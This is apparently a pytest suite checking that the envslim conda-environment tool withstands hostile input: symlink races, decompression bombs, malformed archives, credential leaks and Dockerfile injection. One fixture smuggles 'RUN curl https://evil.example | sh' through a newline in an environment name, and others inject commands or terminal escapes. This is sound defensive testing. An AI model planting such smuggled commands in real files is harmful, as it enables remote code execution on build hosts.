"""Hostile files, hostile servers: each case an adversarial review found, as a test (issue 14)."""

from __future__ import annotations

import gzip
import io
import json
import os
import signal
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from envslim import cli
from envslim.document import atomic, envfile
from envslim.errors import InputError
from envslim.online import remotezip
from envslim.online.cache import Cache

from tests.conftest import ROOT, run

MOVE = "name: x\ndependencies:\n  - python=3.11\n  - pyarrow>=12\n"
MOVED = "name: x\ndependencies:\n  - pip\n  - python=3.11\n  - pip:\n    - pyarrow>=12\n"


@pytest.fixture
def here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return tmp_path


# -- data loss ---------------------------------------------------------------------------------------------------


def test_a_symlinked_file_is_rewritten_at_its_target_and_stays_a_link(capsys, here):
    Path("real.yml").write_text(MOVE)
    os.symlink("real.yml", "link.yml")
    rc, _, _ = run(capsys, "rewrite", "link.yml")
    assert rc == 0
    assert os.readlink("link.yml") == "real.yml"
    assert Path("real.yml").read_text() == MOVED


def test_a_chain_of_links_is_followed_to_its_end(capsys, here):
    Path("real.yml").write_text(MOVE)
    os.symlink("real.yml", "a.yml")
    os.symlink("a.yml", "b.yml")
    assert run(capsys, "rewrite", "b.yml")[0] == 0
    assert (os.readlink("b.yml"), os.readlink("a.yml")) == ("a.yml", "real.yml")
    assert Path("real.yml").read_text() == MOVED


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
def test_a_root_rewrite_keeps_the_files_owner_and_group(capsys, here):
    Path("env.yml").write_text(MOVE)
    os.chown("env.yml", 1234, 5678)
    os.chmod("env.yml", 0o640)
    assert run(capsys, "rewrite", "env.yml")[0] == 0
    st = os.stat("env.yml")
    assert (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode)) == (1234, 5678, 0o640)
    assert Path("env.yml").read_text() == MOVED


def test_a_read_only_file_is_refused_even_as_root(capsys, here):
    Path("env.yml").write_text(MOVE)
    os.chmod("env.yml", 0o444)
    rc, out, err = run(capsys, "rewrite", "env.yml")
    assert (rc, out) == (2, "")
    assert err == "env.yml: read-only (mode 0444): not rewritten; make it writable to let envslim change it\n"
    assert Path("env.yml").read_text() == MOVE
    assert run(capsys, "rewrite", "--check", "env.yml")[0] == 1  # reading it is fine


def test_a_merge_key_that_may_supply_pip_refuses_a_second_pip_section(capsys, here):
    text = ("base: &base\n  pip:\n    - requests\ndependencies:\n  - python=3.11\n  - pyarrow>=12\n  - pip\n"
            "  - <<: *base\n")
    Path("env.yml").write_text(text)
    rc, out, err = run(capsys, "rewrite", "env.yml")
    assert rc == 0
    assert Path("env.yml").read_text() == text
    assert out.endswith(
        "[not fixed: line 8: a YAML merge key (<<) may supply the pip: section; a second pip: would hide it, so add"
        " the requirement there by hand]\n"
    )
    assert out.startswith("env.yml:6:3: ES001 pyarrow: ")


def test_an_anchored_entry_repeated_by_an_alias_is_not_edited(capsys, here):
    text = "dependencies:\n  - &pa pyarrow\n  - pip\n  - pip:\n    - *pa\n"
    Path("env.yml").write_text(text)
    rc, out, err = run(capsys, "rewrite", "env.yml")
    assert (rc, err) == (0, "")
    assert Path("env.yml").read_text() == text
    assert out.endswith(
        "[not fixed: line 2: the entry is the YAML anchor &pa, which an alias repeats elsewhere; envslim does not"
        " edit anchored or aliased entries]\n"
    )


def test_dockerfile_refuses_to_write_over_its_input(capsys, here):
    Path("env.yml").write_text(MOVE)
    os.symlink("env.yml", "link.yml")
    for target in ("env.yml", "./env.yml", "link.yml"):
        rc, out, err = run(capsys, "dockerfile", "env.yml", "-o", target)
        assert (rc, out) == (2, "")
        assert err == f"{target}: is the environment file itself; write the Dockerfile to another path\n"
    assert Path("env.yml").read_text() == MOVE


def test_an_interrupted_write_leaves_no_temporary_file(here, monkeypatch):
    """SIGTERM arriving while the new text is being put in place: the old text stays, no .envslim-*.tmp."""
    Path("env.yml").write_text(MOVE)
    real_replace = os.replace

    def interrupted(src, dst):
        os.kill(os.getpid(), signal.SIGTERM)  # the handler runs before this call returns
        real_replace(src, dst)

    monkeypatch.setattr(atomic.os, "replace", interrupted)
    with pytest.raises(SystemExit) as stopped:
        atomic.write_atomic("env.yml", MOVED)
    assert stopped.value.code == 128 + signal.SIGTERM
    assert sorted(os.listdir(".")) == ["env.yml"]
    assert Path("env.yml").read_text() == MOVE
    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL  # the previous handler is back


# -- not a file --------------------------------------------------------------------------------------------------


def test_a_fifo_is_refused_without_waiting_for_a_writer(here):
    os.mkfifo("env.yml")
    proc = subprocess.run([sys.executable, "-m", "envslim.cli", "rewrite", "env.yml"], capture_output=True,
                          text=True, timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert (proc.returncode, proc.stdout, proc.stderr) == (2, "", "env.yml:1:1: not a regular file (a FIFO)\n")


def test_a_device_is_refused(capsys, here):
    assert run(capsys, "rewrite", "/dev/zero") == (2, "", "/dev/zero:1:1: not a regular file (a device)\n")
    assert run(capsys, "report", "/dev/null")[0] == 2


def test_a_directory_is_searched_not_read(capsys, here):
    os.mkdir("env.yml")
    assert run(capsys, "rewrite", "--check", "env.yml") == (
        0, "", "envslim: warning: env.yml: no environment files or pixi manifests found (environment*.yml, env*.yml,"
        " *.env.yml, pixi.toml, pyproject.toml with [tool.pixi])\n")
    with pytest.raises(InputError) as e:
        envfile.read_bytes("env.yml")
    assert str(e.value) == "env.yml:1:1: not a regular file (a directory)"


def test_a_huge_file_is_refused_by_its_size(capsys, here, monkeypatch):
    from envslim.document import envfile

    monkeypatch.setattr(envfile, "MAX_FILE_BYTES", 1024)
    Path("env.yml").write_text(MOVE + "# padding\n" * 200)
    assert envfile.read_bytes("env.yml", 4096).startswith(b"name: x")
    with pytest.raises(envfile.InputError) as e:
        envfile.read_bytes("env.yml", 1024)
    assert str(e.value) == "env.yml:1:1: larger than 1,024 bytes: not an environment file"


# -- valid files that were refused -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "channels:\ndependencies:\n",
    "name: x\nchannels:\ndependencies:\n  - python=3.11\n",
    "dependencies:\n  - python=3.11\n  - pip\n  - pip:\n",
])
def test_empty_lists_are_valid(capsys, here, text):
    Path("env.yml").write_text(text)
    assert run(capsys, "rewrite", "--check", "env.yml") == (0, "", "")


# -- Dockerfile injection ----------------------------------------------------------------------------------------


def test_a_name_with_a_newline_cannot_inject_an_instruction(capsys, here):
    Path("env.yml").write_text('name: "x\\nRUN curl https://evil.example | sh"\ndependencies:\n  - python=3.11\n')
    rc, out, err = run(capsys, "dockerfile", "env.yml")
    assert (rc, out) == (2, "")
    assert err == ("env.yml: the environment's name holds the control character U+000A; refusing to copy it into"
                   " a Dockerfile\n")


def test_a_file_name_with_a_space_or_quote_is_copied_in_json_form(capsys, here):
    name = 'my "env" $HOME.yml'
    Path(name).write_text("name: x\ndependencies:\n  - python=3.11\n")
    rc, out, _ = run(capsys, "dockerfile", name)
    assert rc == 0
    assert 'COPY ["my \\"env\\" $HOME.yml", "/tmp/environment.yml"]\n' in out
    Path("Dockerfile").write_text(out)
    lint = subprocess.run([str(Path(sys.executable).parent / "hadolint"), "Dockerfile"], capture_output=True,
                          text=True)
    assert (lint.returncode, lint.stdout) == (0, "")


def test_a_file_name_with_a_newline_is_refused(capsys, here):
    Path("a\nRUN x.yml").write_text("dependencies:\n  - python=3.11\n")
    rc, out, err = run(capsys, "dockerfile", "a\nRUN x.yml")
    assert (rc, out) == (2, "")
    assert err == ("the environment file's path holds the control character U+000A; refusing to copy it into a"
                   " Dockerfile\n")


def test_options_with_control_characters_are_refused(capsys, here):
    Path("env.yml").write_text("dependencies:\n  - python=3.11\n")
    rc, out, err = run(capsys, "dockerfile", "env.yml", "--base", "debian\nRUN id")
    assert (rc, out) == (2, "")
    assert err == ("envslim dockerfile: --base holds the control character U+000A; refusing to copy it into a"
                   " Dockerfile\n")


# -- hostile archives and caches ---------------------------------------------------------------------------------


def _zip_with_name(raw_name: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("placeholder.py", b"x = 1\n")
    data = bytearray(buf.getvalue())
    for old in (b"placeholder.py",):
        at = data.rfind(old)  # the central directory's copy of the name
        data[at:at + len(old)] = raw_name.ljust(len(old), b"_")[: len(old)]
        flags_at = data.rfind(b"PK\x01\x02") + 8
        data[flags_at:flags_at + 2] = (int.from_bytes(data[flags_at:flags_at + 2], "little") | 0x800).to_bytes(2, "little")
    return bytes(data)


def test_a_central_directory_name_that_is_not_utf8_is_a_format_error():
    data = _zip_with_name(b"\xff\xfe-bad")
    eocd = remotezip.parse_eocd(data[-22:], len(data) - 22)
    with pytest.raises(remotezip.ZipFormatError) as e:
        remotezip.parse_central_directory(data[eocd.cd_offset:eocd.cd_offset + eocd.cd_size], eocd.count)
    assert str(e.value) == "a member name is flagged UTF-8 but is not valid UTF-8"


@pytest.mark.parametrize("entry", [
    {"body": 123, "stored_at": 1.0},
    {"body": "{}", "stored_at": "yesterday"},
    {"body": "{}", "stored_at": 1.0, "etag": 7},
    {"body": "{}", "stored_at": 1.0, "last_modified": ["x"]},
    {"body": "{}", "stored_at": True},
    ["not", "a", "mapping"],
])
def test_a_mistyped_cache_entry_is_a_miss(tmp_path, entry):
    cache = Cache(tmp_path)
    cache.put("https://example.org/x", "{}", label="x")
    assert cache.get("https://example.org/x") is not None
    cache._path("https://example.org/x").write_text(json.dumps(entry))
    assert cache.get("https://example.org/x") is None


def test_zstd_bomb_is_capped(monkeypatch):
    zstandard = pytest.importorskip("zstandard")
    from envslim.online import condainfo as anaconda

    monkeypatch.setattr(anaconda, "MAX_INFO_BYTES", 1 << 20)
    bomb = zstandard.ZstdCompressor(level=3).compress(b"\0" * (8 << 20))
    assert len(bomb) < 2048
    decompress = anaconda.zstd_decompressor()
    with pytest.raises(ValueError) as e:
        decompress(bomb)
    assert str(e.value) == "decompresses to more than 1 MiB"
    assert decompress(zstandard.ZstdCompressor().compress(b"paths")) == b"paths"


def test_gzip_json_bomb_is_capped(monkeypatch):
    """A 3 MB gzip body that decodes to gigabytes: the session stops at its cap and warns."""
    pytest.importorskip("httpx")
    from envslim.online import http
    from tests.online.pkgserver import PackageServer

    monkeypatch.setattr(http, "MAX_JSON_BYTES", 1 << 20)
    body = gzip.compress(b" " * (16 << 20), compresslevel=9)
    with PackageServer() as server:
        server.add_encoded(path := "/pypi/bomb/json", body, "gzip")

        async def go():
            async with http.Session(cache=False, retries=0) as session:
                return await session.get_json(server.url + path, what="PyPI bomb"), list(session.warnings)

        data, warnings = http.run(go())
    assert data is None
    assert warnings == [f"PyPI bomb: the JSON document is larger than 1 MiB decoded; ignored ({server.url}{path})"]


def test_zstd_content_encoding_bomb_is_decoded_step_by_step(monkeypatch):
    """A few KB that decode to 256 MiB, as ``Content-Encoding: zstd``: httpx would decode a received chunk
    whole (the whole bomb in memory); the session decodes in bounded steps and stops at its cap."""
    pytest.importorskip("httpx")
    zstandard = pytest.importorskip("zstandard")
    import tracemalloc

    from envslim.online import http
    from tests.online.pkgserver import PackageServer

    monkeypatch.setattr(http, "MAX_JSON_BYTES", 1 << 20)
    packer = zstandard.ZstdCompressor(level=3).compressobj()
    block = b"\0" * (16 << 20)
    body = b"".join(packer.compress(block) for _ in range(16)) + packer.flush()
    del block
    assert len(body) < 64 * 1024
    with PackageServer() as server:
        server.add_encoded(path := "/pypi/zbomb/json", body, "zstd")

        async def go():
            async with http.Session(cache=False, retries=0) as session:
                return await session.get_json(server.url + path, what="PyPI bomb"), list(session.warnings)

        tracemalloc.start()
        try:
            data, warnings = http.run(go())
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
    assert data is None
    assert warnings == [f"PyPI bomb: the JSON document is larger than 1 MiB decoded; ignored ({server.url}{path})"]
    assert peak < 48 << 20  # steps of at most 8 MiB, not the 256 MiB the body decodes to


# -- a plain install ---------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_offline_report_works_on_a_plain_install_and_online_says_what_to_install(tmp_path):
    """A venv with envslim's core dependencies only (no extras): --offline needs neither platformdirs nor
    httpx; --online is one line naming the extra, exit 2."""
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    subprocess.run([str(venv / "bin" / "pip"), "install", "-q", str(ROOT)], check=True, capture_output=True)
    probe = subprocess.run([str(venv / "bin" / "python"), "-c", "import httpx"], capture_output=True)
    assert probe.returncode == 1  # really without the online extra
    (tmp_path / "env.yml").write_text(MOVE)
    env = {k: v for k, v in os.environ.items() if not k.startswith("ENVSLIM_")} | {"HOME": str(tmp_path)}
    envslim = str(venv / "bin" / "envslim")
    offline = subprocess.run([envslim, "report", "--offline", "--format", "json", "env.yml"], cwd=tmp_path,
                             capture_output=True, text=True, env=env)
    assert offline.returncode == 0, offline.stderr
    assert json.loads(offline.stdout)["files"][0]["path"] == "env.yml"
    online = subprocess.run([envslim, "report", "--online", "env.yml"], cwd=tmp_path, capture_output=True, text=True,
                            env=env)
    assert (online.returncode, online.stdout) == (2, "")
    assert online.stderr == ("envslim: error: online lookups need httpx: pip install 'envslim[online]' (or use"
                             " --offline)\n")


# -- prune: hostile prefixes -------------------------------------------------------------------------------------

SP = "lib/python3.11/site-packages"


def _prefix(root: Path, files: dict[str, str]) -> Path:
    for rel, text in {"pyvenv.cfg": "", **files}.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def test_prune_never_follows_a_folder_swapped_for_a_link_after_the_walk(tmp_path):
    """The walk saw pkg/tests as a folder; before the deletion it becomes a link to a folder outside the
    prefix holding a file of the same name (the race the review won 5 of 5 times). Nothing outside goes."""
    from envslim.image import prune

    prefix = _prefix(tmp_path / "env", {f"{SP}/pkg/__init__.py": "", f"{SP}/pkg/tests/test_a.py": "t" * 10})
    outside = tmp_path / "precious"
    outside.mkdir()
    (outside / "test_a.py").write_text("keep me")
    plan = prune.select(str(prefix))
    assert plan.removals["tests"].files == [(f"{SP}/pkg/tests/test_a.py", 10)]
    tests = prefix / SP / "pkg" / "tests"
    (tests / "test_a.py").unlink()
    tests.rmdir()
    tests.symlink_to(outside)
    outcome = prune.carry_out(plan, dry_run=False)
    assert (outside / "test_a.py").read_text() == "keep me"
    why = "a folder on its path is now a symbolic link or not a folder (changed since the walk); not followed"
    assert outcome.failed == [(f"{SP}/pkg/tests/test_a.py", 10, why), (f"{SP}/pkg/tests/", 0, why)]
    assert tests.is_symlink()


def test_prune_stays_off_mount_points_inside_the_prefix(tmp_path):
    from envslim.image import prune

    prefix = _prefix(tmp_path / "env", {f"{SP}/pkg/__init__.py": "", f"{SP}/pkg/tests/test_a.py": "t",
                                        "share/doc/x/README": "d"})
    real = os.path.realpath(prefix)
    info = tmp_path / "mountinfo"
    info.write_text(f"22 1 8:1 / / rw - ext4 /dev/sda1 rw\n"
                    f"90 22 8:1 /home/host/docs {real}/share/doc rw - ext4 /dev/sda1 rw\n"
                    f"91 22 0:5 / {real}/with\\040space rw - tmpfs tmpfs rw\n"
                    f"92 22 0:6 / {real} rw - tmpfs tmpfs rw\n")
    assert prune.mount_points_under(str(prefix), str(info)) == {str(prefix / "share/doc"), str(prefix / "with space")}
    assert prune.mount_points_under(str(prefix), str(tmp_path / "absent")) == frozenset()


@pytest.mark.skipif(os.geteuid() != 0, reason="bind mounts need root")
def test_prune_does_not_delete_through_a_bind_mount(tmp_path, capsys):
    host = tmp_path / "host"
    (host / "tests").mkdir(parents=True)
    (host / "tests" / "test_host.py").write_text("host data")
    prefix = _prefix(tmp_path / "env", {f"{SP}/pkg/__init__.py": ""})
    target = prefix / SP / "pkg" / "vendored"
    target.mkdir()
    if subprocess.run(["mount", "--bind", str(host), str(target)], capture_output=True).returncode != 0:
        pytest.skip("this sandbox cannot bind-mount")
    try:
        rc = cli.main(["prune", str(prefix)])
        out = capsys.readouterr().out
        assert rc == 0
        assert (host / "tests" / "test_host.py").read_text() == "host data"
        assert f"kept {SP}/pkg/vendored/ (mount): a mount point: prune stays on the prefix's own mount\n" in out
    finally:
        subprocess.run(["umount", str(target)], check=True)


@pytest.mark.parametrize("files, kept", [
    # importlib with a relative name and package=__name__
    ({"e/__init__.py": "import importlib\nimportlib.import_module('.tests.fixtures', package=__name__)\n",
      "e/tests/fixtures.py": ""}, "e/tests"),
    # an f-string: the module's name is only known at run time
    ({"f/__init__.py": "import importlib\nimportlib.import_module(f'{__name__}.tests.{x}')\n",
      "f/tests/data.py": ""}, "f/tests"),
])
def test_tests_dirs_named_at_run_time_stay(tmp_path, capsys, files, kept):
    prefix = _prefix(tmp_path / "env", {f"{SP}/{k}": v for k, v in files.items()})
    rc = cli.main(["prune", str(prefix)])
    out = capsys.readouterr().out
    assert rc == 0
    assert f"kept {SP}/{kept}/ (tests): imported at run time by {SP}/{kept.split('/')[0]}/__init__.py:2\n" in out
    assert (prefix / SP / kept).is_dir()


def test_tests_dirs_a_pth_file_needs_stay(tmp_path, capsys):
    prefix = _prefix(tmp_path / "env", {
        f"{SP}/g/__init__.py": "", f"{SP}/g/tests/boot.py": "",
        f"{SP}/h/__init__.py": "", f"{SP}/h/tests/plugins/p.py": "",
        f"{SP}/i/__init__.py": "", f"{SP}/i/tests/t.py": "",
        f"{SP}/startup.pth": "# comment\nimport g.tests.boot\nh/tests/plugins\n",
    })
    rc = cli.main(["prune", str(prefix)])
    out = capsys.readouterr().out
    assert rc == 0
    assert f"kept {SP}/g/tests/ (tests): imported at run time by {SP}/startup.pth:2\n" in out
    assert f"kept {SP}/h/tests/ (tests): imported at run time by {SP}/startup.pth:3\n" in out
    assert not (prefix / SP / "i" / "tests").exists()


# -- output boundaries: credentials and escapes ------------------------------------------------------------------

HOSTILE = r'''name: x
dependencies:
  - python=3.11
  - https://user:S3CRET@example.com/pkgs/foo-1.0-0.tar.bz2
  - "bar\e]0;pwned\a\e[31m"
  - pip
  - pip:
    - https://user:S3CRET@example.com/foo-1.0.tar.gz
    - git+https://tok:S3CRET@github.com/a/b
    - --extra-index-url https://u:S3CRET@example.com/simple
    - "foo @ https://example.com/a`b.whl"
'''


@pytest.mark.parametrize("fmt", ["table", "json", "markdown"])
def test_report_never_prints_a_credential_or_a_raw_escape(capsys, here, fmt):
    Path("env.yml").write_text(HOSTILE)
    rc, out, err = run(capsys, "report", "--format", fmt, "env.yml")
    assert rc == 0
    assert "S3CRET" not in out + err
    assert "\x1b" not in out + err and "\x07" not in out + err
    if fmt == "json":
        names = [p["name"] for p in json.loads(out)["files"][0]["packages"]]
        assert "https://***@example.com/pkgs/foo-1.0-0.tar.bz2" in names
        assert "bar\x1b]0;pwned\x07\x1b[31m" in names  # JSON escapes it itself: the data stays exact
    if fmt == "table":
        assert "bar\\x1b]0;pwned\\x07\\x1b[31m" in out
    if fmt == "markdown":
        assert "| ``foo @ https://example.com/a`b.whl`` |" in out  # the backtick cannot close the code span
        assert "| `bar\\x1b]0;pwned\\x07\\x1b[31m` |" in out


def test_explain_never_echoes_a_credential(capsys, here):
    rc, out, err = run(capsys, "explain", "https://user:S3CRET@example.com/x")
    assert (rc, out) == (2, "")
    assert err == "envslim: error: no knowledge entry or rule named 'https://***@example.com/x'\n"


def test_md_code_and_printable():
    from envslim.display import md_code, printable

    assert printable("a\x1b[31mb\tc\nd\x9b\u2028") == "a\\x1b[31mb\tc\nd\\x9b\\u2028"
    assert md_code("plain") == "`plain`"
    assert md_code("a`b") == "``a`b``"
    assert md_code("`x") == "`` `x ``"
    assert md_code("a``b|c") == "```a``b\\|c```"


def test_prune_keeps_few_descriptors_open_on_a_prefix_of_many_folders(tmp_path, monkeypatch):
    from envslim.image import fsguard, prune

    monkeypatch.setattr(fsguard.DirFds, "MAX_OPEN", 4)
    files = {f"{SP}/p{i}/__init__.py": "" for i in range(12)}
    files |= {f"{SP}/p{i}/tests/deep/er/test_x.py": "t" for i in range(12)}
    prefix = _prefix(tmp_path / "env", files)
    before = len(os.listdir("/proc/self/fd"))
    outcome = prune.carry_out(prune.select(str(prefix)), dry_run=False)
    assert outcome.failed == [] and outcome.removed["tests"] == (12, 12)
    assert not any((prefix / SP / f"p{i}" / "tests").exists() for i in range(12))
    assert len(os.listdir("/proc/self/fd")) == before  # every descriptor closed again


# -- prune's import check and the trace's siblings of the data-loss cases -----------------------------------


def _real_venv(root: Path, files: dict[str, str]) -> Path:
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(root)], check=True)
    sp = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
    for rel, text in files.items():
        path = root / sp / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root / sp


def test_prune_through_the_trash_never_follows_a_folder_swapped_for_a_link(tmp_path):
    """The swapped-folder race again, on a prefix whose Python runs (the files go to a trash first)."""
    from envslim.image import prune

    sp = _real_venv(tmp_path / "env", {"pkg/__init__.py": "", "pkg/tests/test_a.py": "t" * 10})
    rel = os.path.relpath(sp, tmp_path / "env")
    outside = tmp_path / "precious"
    outside.mkdir()
    (outside / "test_a.py").write_text("keep me")
    plan = prune.select(str(tmp_path / "env"))
    tests = sp / "pkg" / "tests"
    (tests / "test_a.py").unlink()
    tests.rmdir()
    tests.symlink_to(outside)
    outcome = prune.carry_out(plan, dry_run=False)
    assert (outside / "test_a.py").read_text() == "keep me"
    why = "a folder on its path is now a symbolic link or not a folder (changed since the walk); not followed"
    assert outcome.failed == [(f"{rel}/pkg/tests/test_a.py", 10, why), (f"{rel}/pkg/tests/", 0, why)]
    assert outcome.check is not None and outcome.check.checked == 1 and outcome.check.restored == []
    assert tests.is_symlink() and not [p for p in os.listdir(tmp_path / "env") if p.startswith(".envslim-trash")]


def test_prune_interrupted_during_the_import_check_puts_every_file_back(tmp_path, monkeypatch):
    from envslim.image import importcheck, prune

    sp = _real_venv(tmp_path / "env", {"pkg/__init__.py": "", "pkg/tests/test_a.py": "t" * 10})
    real = importcheck.import_each
    calls = []

    def interrupted(python, names, timeout=importcheck.IMPORT_TIMEOUT):
        calls.append(sorted(names))
        if len(calls) == 2:  # the check after the files went to the trash
            raise KeyboardInterrupt
        return real(python, names, timeout)

    monkeypatch.setattr(importcheck, "import_each", interrupted)
    with pytest.raises(KeyboardInterrupt):
        prune.carry_out(prune.select(str(tmp_path / "env")), dry_run=False)
    assert calls == [["pkg"], ["pkg"]]
    assert (sp / "pkg" / "tests" / "test_a.py").read_text() == "t" * 10
    assert not [p for p in os.listdir(tmp_path / "env") if p.startswith(".envslim-trash")]


def _trace_prefix(tmp_path: Path, monkeypatch) -> Path:
    from tests.image.test_trace import _make

    monkeypatch.setenv("PYTHONDONTWRITEBYTECODE", "1")
    return _make(tmp_path / "env")


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another user needs root")
def test_strip_keeps_the_owner_of_a_library(tmp_path, monkeypatch, capsys):
    """A build that runs as root must not hand the prefix's stripped libraries to root."""
    from tests.image.test_trace import USES_ANSWER, _build_answer

    prefix = _trace_prefix(tmp_path, monkeypatch)
    lib = _build_answer(prefix, tmp_path)
    os.chown(lib, 12345, 12346)
    before = lib.stat().st_size
    rc, out, err = run(capsys, "prune", str(prefix), "--keep-used-by", USES_ANSWER, "--strip")
    assert (rc, err) == (0, ""), out
    st = lib.stat()
    assert st.st_size < before and (st.st_uid, st.st_gid) == (12345, 12346)


def test_strip_leaves_a_read_only_library_alone(tmp_path, monkeypatch, capsys):
    from tests.image.test_trace import USES_ANSWER, _build_answer

    prefix = _trace_prefix(tmp_path, monkeypatch)
    lib = _build_answer(prefix, tmp_path)
    lib.chmod(0o555)
    data = lib.read_bytes()
    rc, out, err = run(capsys, "prune", str(prefix), "--keep-used-by", USES_ANSWER, "--strip")
    assert (rc, err) == (0, ""), out
    assert "strip                        0               0   0.0%\n" in out
    assert lib.read_bytes() == data and stat.S_IMODE(lib.stat().st_mode) == 0o555


def test_trace_prune_never_removes_a_folder_through_a_link_swapped_in_during_the_run(tmp_path, monkeypatch, capsys):
    """The second run of the command swaps the package folder for a link to a folder outside the prefix
    that holds an empty tests/; the emptied trees are removed through descriptors, never by path."""
    from envslim.commands.options import PruneOptions
    from envslim.commands.prune import run_traced
    from envslim.image import trace
    from tests.image.test_trace import SP as TSP

    prefix = _trace_prefix(tmp_path, monkeypatch)
    outside = tmp_path / "host"
    (outside / "tests").mkdir(parents=True)
    calls = []

    def runner(command, where, extra_env):
        calls.append(command)
        if len(calls) == 1:
            return trace.run_command(command, where, extra_env)
        used = prefix / TSP / "used"
        used.rename(tmp_path / "used-aside")
        used.symlink_to(outside)
        return trace.RunResult(0, "")

    options = PruneOptions(prefix=str(prefix), keep_used_by="python -c 'import used'")
    assert run_traced(options, io.StringIO(), io.StringIO(), runner=runner) == 0
    assert (outside / "tests").is_dir()


@pytest.mark.parametrize("flag", ["paths", "lockfile", "config"])
def test_report_refuses_to_write_over_an_input(capsys, here, flag):
    (here / "env.yml").write_text(MOVE)
    (here / "conda-lock.yml").write_text("version: 1\n")
    (here / "envslim.toml").write_text("")
    (here / "link.yml").symlink_to("env.yml")
    target, extra = {
        "paths": ("link.yml", ()),
        "lockfile": ("conda-lock.yml", ("--lockfile", "conda-lock.yml")),
        "config": ("envslim.toml", ("--config", "envslim.toml")),
    }[flag]
    before = {p.name: p.read_text() for p in here.iterdir()}
    rc, out, err = run(capsys, "report", "env.yml", *extra, "-o", target)
    given = {"paths": "env.yml", "lockfile": "conda-lock.yml", "config": "envslim.toml"}[flag]
    assert (rc, out) == (2, "")
    assert err == f"{target}: is an input of the report ({given}); write the report to another path\n"
    assert {p.name: p.read_text() for p in here.iterdir()} == before
